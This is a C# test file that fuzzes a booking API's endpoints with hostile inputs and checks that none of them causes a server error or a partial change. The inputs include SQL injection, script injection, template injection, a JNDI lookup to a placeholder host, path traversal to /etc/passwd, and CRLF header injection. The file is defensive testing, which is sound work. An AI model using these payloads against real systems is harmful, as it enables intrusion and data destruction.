using System.Text.Json.Nodes;
using Frontdesk.Grains.Demo;
using Frontdesk.Silo;
using Frontdesk.Web.Tests.Infrastructure;
using Microsoft.Extensions.DependencyInjection;

namespace Frontdesk.Web.Tests.Security;

/// <summary>
/// Each text field of the main bodies (booking, hold, visit, client, waitlist, notes, cancel, move, ticket, sign-in)
/// gets hostile values: SQL and script injection, template and path tricks, lone surrogates, control and direction
/// characters, 100,000 characters; and each body is sent malformed, with wrong types, and at 10 MB. No answer is a
/// 5xx; an answer that refuses changes nothing; one that accepts stores the text as it was sent.
/// </summary>
public sealed class hostile_input_on_the_main_endpoints_never_gets_a_500_and_a_refusal_changes_nothing(DemoApi api) : IClassFixture<DemoApi>
{
    private static readonly string[] Hostile =
    [
        "'; DROP TABLE frontdesk_journal; --",
        "\" OR 1=1 --",
        "<script>alert(1)</script>",
        "{{7*7}}${7*7}",
        "${jndi:ldap://example.invalid/a}",
        "../../../../etc/passwd",
        "%00%0d%0aSet-Cookie: x=1",
        "\u0000\u0001\u001f",
        "\ud800",
        "\u202Eevil\u202C\u200B\uFEFF",
        "Ωμέγα 𝕏 🦷 Ёжик",
        "",
        " ",
        new string('x', 100_000),
    ];

    [Fact]
    public async Task every_text_field_of_every_main_body_survives_hostile_values()
    {
        var bodies = await BodiesAsync();
        using var changes = new ChangeRecorder(api.Services.GetRequiredService<GrainChangeFeed>());
        var failures = new List<string>();
        var sent = 0;

        foreach (var (method, path, body) in bodies)
        {
            foreach (var field in TextFields(body))
            {
                foreach (var value in Hostile)
                {
                    var spoiled = (JsonObject)body.DeepClone();
                    Replace(spoiled, field, value);
                    changes.Clear();
                    using var response = await api.Client.SendRawAsync(method, path, spoiled.ToJsonString(), ApiClient.NewKey());
                    sent++;
                    var status = (int)response.StatusCode;
                    if (status >= 500) failures.Add($"{method} {path} {field}={Show(value)}: {status} {await response.Content.ReadAsStringAsync()}");
                    else if (status >= 400 && changes.Changes.Count > 0)
                        failures.Add($"{method} {path} {field}={Show(value)}: refused {status} but changed {string.Join(", ", changes.Changes.Select(c => c.Grain))}");
                }
            }
            foreach (var (what, raw) in Broken(body))
            {
                changes.Clear();
                using var response = await api.Client.SendRawAsync(method, path, raw, ApiClient.NewKey());
                sent++;
                var status = (int)response.StatusCode;
                if (status is < 400 or >= 500) failures.Add($"{method} {path} {what}: {status}");
                else if (changes.Changes.Count > 0) failures.Add($"{method} {path} {what}: refused {status} but changed something");
                else if (response.Content.Headers.ContentType?.MediaType != "application/problem+json") failures.Add($"{method} {path} {what}: not a ProblemDetails");
            }
        }

        Assert.True(failures.Count == 0, $"{failures.Count} of {sent}:\n" + string.Join("\n", failures.Take(40)));
        // The journal is still there and still answers.
        await api.Client.GetJsonAsync("/api/catalog");
    }

    [Fact]
    public async Task accepted_hostile_text_is_stored_and_read_back_exactly()
    {
        var bodies = await BodiesAsync();
        var (_, path, body) = bodies.First(b => b.Path == "/api/bookings");
        var notes = "<script>alert(1)</script> '; DROP TABLE frontdesk_journal; -- Ωμέγα 🦷 \u202E";
        Replace(body, "notes", notes);

        var booked = await ApiClient.JsonOf(await api.Client.SendRawAsync(HttpMethod.Post, path, body.ToJsonString(), ApiClient.NewKey()), 201);
        var read = await api.Client.GetJsonAsync($"/api/bookings/{booked.GetProperty("number").GetString()}");

        Assert.Equal(notes, read.GetProperty("notes").GetString());
    }

    [Fact]
    public async Task every_answer_carries_the_security_headers()
    {
        foreach (var path in new[] { "/calendar", "/api/catalog", "/health", "/api/nowhere" })
        {
            using var response = await api.Client.Http.GetAsync(path);
            Assert.Contains("frame-ancestors 'none'", string.Join(";", response.Headers.GetValues("Content-Security-Policy")));
            Assert.Equal("nosniff", response.Headers.GetValues("X-Content-Type-Options").Single());
            Assert.Equal("no-referrer", response.Headers.GetValues("Referrer-Policy").Single());
        }
    }

    /// <summary>Valid bodies of the main endpoints, on demo data a week ahead (a number already booked for the by-number ones).</summary>
    private async Task<List<(HttpMethod Method, string Path, JsonObject Body)>> BodiesAsync()
    {
        var anna = await api.Client.ClientIdAsync("anna ivanova");
        var date = Bodies.Date(DemoApi.Today.AddDays(7));
        var booking = JsonNode.Parse($$"""{"branchId":"{{DemoBranches.Tverskaya}}","specialistId":"{{DemoSpecialists.ElenaSmirnova}}","date":"{{date}}","start":"10:00","serviceIds":["massage-back"],"client":{"id":"{{anna}}"},"notes":"n"}""")!.AsObject();
        var number = (await api.Client.GetJsonAsync($"/api/branches/{DemoBranches.Tverskaya}/calendar/{Bodies.Date(DemoApi.Today)}"))
            .GetProperty("columns")[0].GetProperty("day").GetProperty("bookings")[0].GetProperty("number").GetString();
        return
        [
            (HttpMethod.Post, "/api/bookings", booking),
            (HttpMethod.Post, "/api/holds", (JsonObject)booking.DeepClone()),
            (HttpMethod.Post, "/api/visits", JsonNode.Parse($$"""{"client":{"name":"New Person","phone":"+7 901 123-45-67"},"parts":[{"branchId":"{{DemoBranches.Tverskaya}}","specialistId":"{{DemoSpecialists.ElenaSmirnova}}","date":"{{date}}","start":"11:00","serviceIds":["massage-back"]}],"notes":"n"}""")!.AsObject()),
            (HttpMethod.Post, "/api/clients", JsonNode.Parse("""{"name":"New Person","phone":"+7 901 123-45-68","email":"a@example.com","foundUsBy":"web","notes":"n"}""")!.AsObject()),
            (HttpMethod.Post, "/api/waitlist", JsonNode.Parse($$"""{"client":{"id":"{{anna}}"},"serviceId":"massage-back","from":"{{date}}","to":"{{date}}","branchId":"{{DemoBranches.Tverskaya}}"}""")!.AsObject()),
            (HttpMethod.Put, $"/api/bookings/{number}/notes", JsonNode.Parse("""{"notes":"n"}""")!.AsObject()),
            (HttpMethod.Post, $"/api/bookings/{number}/cancel", JsonNode.Parse("""{"reason":"r"}""")!.AsObject()),
            (HttpMethod.Post, $"/api/bookings/{number}/move", JsonNode.Parse("""{"start":"10:00","specialistId":"x"}""")!.AsObject()),
            (HttpMethod.Post, $"/api/queue/branches/{DemoBranches.Tverskaya}/lines/{DemoQueues.Reception}/tickets", JsonNode.Parse("""{"source":"reception","kioskId":"k","priority":"elderly","bookingCode":"FD1:x:y"}""")!.AsObject()),
            // A login nobody has: a wrong password for a real one is a change (it counts towards the lockout).
            (HttpMethod.Post, "/api/auth/sign-in", JsonNode.Parse("""{"login":"nobody-at-all","password":"p"}""")!.AsObject()),
        ];
    }

    /// <summary>Dotted paths of every string in the body (array items as [i]).</summary>
    private static IEnumerable<string> TextFields(JsonNode node, string prefix = "") => node switch
    {
        JsonObject o => o.SelectMany(p => p.Value is null ? [] : TextFields(p.Value, prefix.Length == 0 ? p.Key : $"{prefix}.{p.Key}")),
        JsonArray a => a.SelectMany((item, i) => item is null ? [] : TextFields(item, $"{prefix}[{i}]")),
        JsonValue v when v.TryGetValue<string>(out _) => [prefix],
        _ => [],
    };

    private static void Replace(JsonObject body, string path, object? value)
    {
        JsonNode node = body;
        var parts = path.Replace("[", ".[").Split('.');
        for (var i = 0; i < parts.Length - 1; i++) node = Step(node, parts[i])!;
        var last = parts[^1];
        JsonNode? replacement = value switch { null => null, string s => JsonValue.Create(s), int n => JsonValue.Create(n), JsonNode j => j, _ => JsonValue.Create(value.ToString()) };
        if (last.StartsWith('[')) node.AsArray()[int.Parse(last[1..^1])] = replacement;
        else node.AsObject()[last] = replacement;
    }

    private static JsonNode? Step(JsonNode node, string part) => part.StartsWith('[') ? node.AsArray()[int.Parse(part[1..^1])] : node.AsObject()[part];

    /// <summary>The body broken as a whole: not JSON, the wrong shape, wrong types in each field, and 10 MB.</summary>
    private static IEnumerable<(string What, string Raw)> Broken(JsonObject body)
    {
        var json = body.ToJsonString();
        yield return ("malformed", json[..(json.Length / 2)]);
        yield return ("an array", "[1,2,3]");
        yield return ("a string", "\"hello\"");
        yield return ("deeply nested", new string('[', 5000) + new string(']', 5000));
        foreach (var field in TextFields(body))
        {
            foreach (var (kind, value) in new (string, object?)[] { ("a number", 42), ("an object", new JsonObject { ["a"] = 1 }), ("an array", new JsonArray(1, 2)) })
            {
                var wrong = (JsonObject)body.DeepClone();
                Replace(wrong, field, value);
                yield return ($"{kind} for {field}", wrong.ToJsonString());
            }
        }
        var huge = (JsonObject)body.DeepClone();
        huge["padding"] = new string('x', 10 * 1024 * 1024);
        yield return ("10 MB", huge.ToJsonString());
    }

    private static string Show(string value) => value.Length > 40 ? $"{value[..20]}…({value.Length})" : value;
}
